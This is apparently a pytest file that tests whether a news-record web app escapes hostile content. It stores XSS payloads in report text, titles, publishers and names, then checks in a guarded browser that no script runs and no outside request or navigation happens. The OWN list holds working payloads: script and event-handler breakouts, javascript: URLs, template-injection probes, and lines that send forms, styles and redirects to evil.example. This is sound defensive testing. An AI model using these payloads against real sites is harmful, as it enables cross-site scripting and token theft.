"""Hostile words in a real browser: as text, title, outlet and name, nothing of them ever runs."""

from __future__ import annotations

import functools
import http.server
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from starlette.testclient import TestClient

import onrecord
from onrecord.records import Account, Actor, Block, Claim, Quantity, Report, Span
from onrecord.serve import Settings, make_app
from onrecord.store import Entry
from onrecord.text import derive_id, digest_text, quote
from tests.serve import seeing
from tests.serve.browsing import serving
from tests.store.conftest import make_snapshot

_GOLD = Path("shared") / "gold" / "nasty" / "dompurify" / "xss.json"
_RUN = "window.__ran=(window.__ran||0)+1"
OWN = [
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><img src=x onerror={_RUN}>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg onload={_RUN}>",
    f"--><svg/onload={_RUN}>",
    f"]]><script>{_RUN}</script>",
    f'" autofocus onfocus="{_RUN}" x="',
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "{{ 7*7 }}{% raw %}{{ config }}${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;&#60;img src=x onerror=alert(1)&#62;",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<form action=https://evil.example/><input name=token autofocus></form>",
    "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/y)}</style>",
    "\u202ereversed\u202c \u2066isolated \x1b[31mred\x07 \x00null \ufeff",
    "\ud800 lone surrogate \udfff",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<a href='java&#10;script:{_RUN}'>x</a><a id=document name=cookie>",
]


class Payload(NamedTuple):
    """A hostile text and its name."""

    name: str
    text: str


def _payloads() -> list[Payload]:
    found = [Payload(f"own {number}", text) for number, text in enumerate(OWN)]
    path = next((p / _GOLD for p in Path(__file__).parents if (p / _GOLD).exists()), None)
    if path is not None:
        rows = json.loads(path.read_text(encoding="utf-8"))
        found += [Payload(f"dompurify {n}", row["payload"]) for n, row in enumerate(rows)]
    return [payload for payload in found if payload.text.strip()]


PAYLOADS = _payloads()
HAS_GOLD = any(payload.name.startswith("dompurify") for payload in PAYLOADS)


def _account(number: int, hostile: str) -> Account:
    """Return an account whose text, title, outlet, speaker and role are hostile."""
    text = f"“At least 12 were killed, {hostile}”, {hostile} said {number}.\n\n{hostile}\n"
    sha256 = digest_text(text)

    def found(words: str, start: int = 0) -> Span:
        at = text.index(words, start)
        return Span(start=at, end=at + len(words))

    content = Span(start=0, end=text.index("”") + 1 if "”" in text else 10)
    source = found(hostile, content.end)
    actor, claim = derive_id("actor", sha256, 0), derive_id("claim", sha256, 0)
    return Account(
        report=Report(
            id=derive_id("report", sha256),
            origin=f"{number}/{hostile[:60]}",
            url=hostile if number % 2 else "https://lantern.example/" + hostile[:80],
            publisher=hostile,
            title=hostile,
            bylines=(hostile,),
            section=(hostile,),
            published_on="2025-10-11",
            language="en",
            text=text,
            text_sha256=sha256,
            blocks=(Block(role="paragraph", start=0, end=len(text)),),
            notices=(hostile,),
        ),
        claims=(
            Claim(
                id=claim,
                source=(quote(text, source),),
                cue=(quote(text, found("said", source.end)),),
                content=(quote(text, content),),
                speech="direct",
                speaker=actor,
                speaker_kind="named",
                probability=0.9,
            ),
        ),
        figures=(
            Quantity(
                id=derive_id("figure", sha256, 0),
                span=quote(text, found("At least 12")),
                low=12,
                high=None,
                bound="at_least",
                measure="killed",
                of=hostile,
                claim=claim,
            ),
        ),
        actors=(
            Actor(
                id=actor,
                name=hostile,
                kind="person",
                mentions=(quote(text, source),),
                roles=(hostile,),
            ),
        ),
    )


@pytest.fixture(scope="module")
def hostile_ledger(tmp_path_factory: pytest.TempPathFactory) -> str:
    path = str(tmp_path_factory.mktemp("hostile") / "hostile.ledger")
    with onrecord.open(path, create=True) as book:
        store = book._store
        run = store.begin_run("rules 1")
        entries = [
            Entry(
                account=_account(number, payload.text),
                snapshot=make_snapshot(b"<p>" + payload.text.encode("utf-8", "replace")),
            )
            for number, payload in enumerate(PAYLOADS)
        ]
        outcomes = [found.outcome for found in store.add(entries, run=run)]
        store.finish_run(run)
        book.refresh()
    assert outcomes.count("refused") <= 1  # a null in a name, perhaps
    return path


def _addresses(ledger: str, every: int) -> list[str]:
    """Return every address of a page, found by asking for all.

    Of pages of one record, those of our own payloads and `every` so many of the others: lists show
    all of them in any case.
    """
    client = TestClient(
        make_app(Settings(ledger=ledger)), "http://127.0.0.1:8000", client=("127.0.0.1", 5000)
    )
    ids = seeing.ids_of(ledger)
    own = {_account(number, text).report.id for number, text in enumerate(OWN)}
    reports = [one for n, one in enumerate(ids.reports) if one in own or n % every == 0]
    ids = ids._replace(
        reports=tuple(reports), parties=ids.parties[::every], stories=ids.stories[::every]
    )
    pages = []
    with client:
        for path, _ in seeing.routes_of(client.app.routes):  # type: ignore[attr-defined]
            for address in seeing.addresses(path, ids):
                for asked in ("", "?q=killed", "?limit=500") if "{" not in path else ("",):
                    answer = client.get(address + asked, headers={"accept": "text/html,*/*"})
                    is_page = "html" in answer.headers.get("content-type", "")
                    if is_page and answer.status_code == 200:
                        pages.append(address + asked)
    return list(dict.fromkeys(pages))


class Guarded:
    """A browser's page that notes whatever should not be."""

    def __init__(self, browser: Any, site: str) -> None:
        self.site = site
        self.noted: list[str] = []
        self.is_sandboxed = False
        self.context = browser.new_context(accept_downloads=False)
        self.context.route("**/*", self._route)
        self.page = self.context.new_page()
        self.page.on("dialog", self._dialog)
        self.page.on("console", self._console)
        self.page.on("pageerror", lambda error: self.noted.append(f"error: {error}"))
        self.context.on("page", lambda page: self.noted.append(f"opened: {page.url}"))

    def _route(self, route: Any) -> None:
        url = route.request.url
        if url.startswith((self.site + "/", "data:", "about:", "blob:")):
            route.continue_()
        else:
            self.noted.append(f"asked: {url[:200]}")
            route.abort()

    def _dialog(self, dialog: Any) -> None:
        self.noted.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _console(self, message: Any) -> None:
        # A sandbox says in the console what it keeps from running; that it does is what is wanted.
        if message.type in ("error", "warning") and not self.is_sandboxed:
            self.noted.append(f"console: {message.text[:300]}")

    def open(self, address: str) -> list[str]:
        """Open a page and return whatever should not be."""
        self.noted.clear()
        self.is_sandboxed = address.endswith(("/source", "/snapshot"))
        self.page.goto(self.site + address, wait_until="load")
        for frame in self.page.frames:
            if ran := frame.evaluate("() => window.__ran"):
                self.noted.append(f"ran: {ran}")
        if not self.page.url.startswith(self.site):
            self.noted.append(f"went: {self.page.url}")
        return list(self.noted)


@pytest.fixture(scope="module")
def guarded(browser: Any, hostile_ledger: str) -> Iterator[Guarded]:
    with serving(hostile_ledger) as site:
        page = Guarded(browser, site)
        yield page
        page.context.close()


@pytest.mark.parametrize("every", [20, pytest.param(1, marks=pytest.mark.slow)])
def test_nothing_that_a_report_holds_ever_runs(
    guarded: Guarded, hostile_ledger: str, every: int
) -> None:
    addresses = _addresses(hostile_ledger, every)
    assert len(addresses) > 3
    found = {address: noted for address in addresses if (noted := guarded.open(address))}
    assert found == {}


def test_payloads_of_others_are_among_them() -> None:
    if not HAS_GOLD:
        pytest.skip(f"{_GOLD} is not there; only our own payloads were tried")
    assert len(PAYLOADS) > 200


def test_the_watch_would_notice(browser: Any, tmp_path: Path) -> None:
    """A page that does escape nothing is caught by every part of the watch."""
    hostile = tmp_path / "page.html"
    hostile.write_text(
        f"<script>{_RUN};alert(1);console.error('x')</script><img src=https://evil.example/x>",
        encoding="utf-8",
    )

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *arguments: object) -> None:
            return

    handler = functools.partial(Quiet, directory=str(tmp_path))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        page = Guarded(browser, f"http://127.0.0.1:{server.server_address[1]}")
        noted = page.open("/page.html")
        page.context.close()
    finally:
        server.shutdown()
        server.server_close()
    assert {one.partition(":")[0] for one in noted} == {"dialog", "console", "asked", "ran"}
